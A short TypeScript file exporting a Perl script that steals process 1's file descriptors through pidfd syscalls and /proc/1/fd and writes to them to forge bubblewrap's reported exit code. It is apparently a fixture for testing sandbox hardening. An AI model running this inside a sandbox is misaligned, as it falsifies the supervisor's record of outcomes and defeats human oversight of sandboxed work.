/**
 * Perl that takes every descriptor of process 1 that it can get (pidfd_open, pidfd_getfd), writes the number 1 to each, as bubblewrap's
 * own process 1 does after exit code 0, and then exits with the code of its first argument.
 */
export const FORGE_EXIT_CODE = String.raw`
my $one = syscall(434, 1, 0);
for (3 .. 40) {
  my $got = syscall(438, $one, $_, 0);
  next if $got < 0;
  open(my $stolen, ">&=", $got) or next;
  syswrite($stolen, pack("Q", 1));
}
for my $name (glob("/proc/1/fd/*")) { open(my $found, "+<", $name) or next; syswrite($found, pack("Q", 1)) }
select(undef, undef, undef, 0.05);
exit($ARGV[0]);
`;
